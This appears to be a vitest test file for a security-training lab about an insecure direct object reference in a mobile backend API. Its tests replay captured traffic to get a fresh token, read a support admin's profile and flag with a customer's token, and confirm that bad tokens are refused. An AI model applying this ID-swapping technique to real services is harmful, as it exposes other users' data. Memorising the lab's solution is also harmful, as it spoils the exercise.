import { afterEach, describe, expect, it } from 'vitest';
import { editorAnswer, showsFlag, startTestLab, unescapeHtml } from '../host/test-harness';

type TestLab = Awaited<ReturnType<typeof startTestLab>>;

/** The hidden fields of a traffic page's "Send to the request editor" form. */
function replayForm(body: string): Record<string, string> {
  const form = /<form method="post" action="[^"]*\/_editor#request-editor"[\s\S]*?<\/form>/.exec(body)![0];
  return Object.fromEntries(
    [...form.matchAll(/<input type="hidden" name="(\w+)" value="([^"]*)">/g)].map((m) => [m[1]!, unescapeHtml(m[2]!)]),
  );
}

async function replay(lab: TestLab, entry: number) {
  const fields = replayForm((await lab.get(`/traffic/${entry}`)).body);
  return lab.send('POST', '/_editor', {
    body: new URLSearchParams(fields).toString(),
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  });
}

async function signIn(lab: TestLab, phone: string, password: string): Promise<string> {
  const answer = await lab.editor({
    method: 'POST',
    path: '/api/v2/auth/login',
    headers: 'Content-Type: application/json',
    body: JSON.stringify({ phone, password }),
  });
  const { status, json } = editorAnswer(answer.body);
  expect(status).toBe(200);
  return json.token as string;
}

const getWith = (lab: TestLab, path: string, token: string) =>
  lab.editor({ method: 'GET', path, headers: `Authorization: Bearer ${token}` });

describe('lab mobile-backend-idor', () => {
  let lab: TestLab;
  afterEach(() => lab.close());

  it("is solved by reading the support admin's profile with a customer's token", async () => {
    lab = await startTestLab('mobile-backend-idor');
    // The captured traffic shows where the admin's ID leaks: the refund on order 700512.
    const list = await lab.get('/traffic');
    expect(list.body).toContain('/api/v2/orders/700512');
    const order = unescapeHtml((await lab.get('/traffic/4')).body);
    expect(order).toMatch(/"approvedBy": \{\s*"userId": 1002/);

    // Replaying the captured profile request fails: its token expired.
    const stale = editorAnswer((await replay(lab, 2)).body);
    expect(stale).toMatchObject({ status: 401, json: { error: { code: 'token_expired' } } });

    // Replaying the sign-in gives a fresh token.
    const login = editorAnswer((await replay(lab, 1)).body);
    expect(login.status).toBe(200);
    const token = login.json.token as string;
    expect(token).toMatch(/^ttk_at_/);

    const answer = await getWith(lab, '/api/v2/users/1002/profile', token);
    const { status, json } = editorAnswer(answer.body);
    expect(status).toBe(200);
    expect(json).toMatchObject({ id: 1002, role: 'support_admin', flag: lab.flag });
    expect(json.supportPin).toMatch(/^\d{6}$/);
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it("lets account A read account B's objects (the lesson's two-account method) without a flag", async () => {
    lab = await startTestLab('mobile-backend-idor');
    const tokenA = await signIn(lab, '9876543210', 'Sabzi@2024');
    const tokenB = await signIn(lab, '+91 98220 12345', 'Misal#Pav7');
    expect(tokenA).not.toBe(tokenB);
    // B's own list (this endpoint filters by the caller) names B's orders.
    const listB = editorAnswer((await getWith(lab, '/api/v2/orders', tokenB)).body).json;
    expect(listB.orders).toEqual([expect.objectContaining({ id: 700520 }), expect.objectContaining({ id: 700505 })]);
    // A's token opens them, and B's profile: BOLA, but not the objective.
    for (const path of [
      '/api/v2/orders/700520',
      '/api/v2/users/48214/profile',
      '/api/v2/users/48213/profile',
      '/api/v2/users/30115/profile',
    ]) {
      const answer = await getWith(lab, path, tokenA);
      expect(editorAnswer(answer.body).status).toBe(200);
      expect(answer.body).not.toContain(lab.flag);
      expect(showsFlag(answer.body, lab.flag)).toBe(false);
    }
  });

  it('needs a valid token: none, the expired one, a forged one or another instance’s one are refused', async () => {
    lab = await startTestLab('mobile-backend-idor');
    const captured = /Authorization: Bearer (ttk_at_[\w-]+)/.exec(
      unescapeHtml((await lab.get('/traffic/2')).body),
    )![1]!;
    const other = await startTestLab('mobile-backend-idor');
    let foreign: string;
    try {
      foreign = await signIn(other, '9876543210', 'Sabzi@2024');
    } finally {
      await other.close();
    }
    const attempts: [string, string][] = [
      ['', 'unauthenticated'],
      [`Authorization: Bearer ${captured}`, 'token_expired'],
      ['Authorization: Bearer ttk_at_AAAAAAAAAAAAAAAAAAAAAA', 'invalid_token'],
      [`Authorization: Bearer ${foreign}`, 'invalid_token'],
      ['Authorization: 48213', 'unauthenticated'],
    ];
    for (const [headers, code] of attempts) {
      const answer = await lab.editor({ method: 'GET', path: '/api/v2/users/1002/profile', headers });
      expect(editorAnswer(answer.body)).toMatchObject({ status: 401, json: { error: { code } } });
      expect(answer.body).not.toContain(lab.flag);
    }
    // A wrong password gets no token.
    const wrong = await lab.editor({
      method: 'POST',
      path: '/api/v2/auth/login',
      headers: 'Content-Type: application/json',
      body: '{"phone":"9876543210","password":"guess"}',
    });
    expect(editorAnswer(wrong.body)).toMatchObject({ status: 401, json: { error: { code: 'invalid_credentials' } } });
  });
});
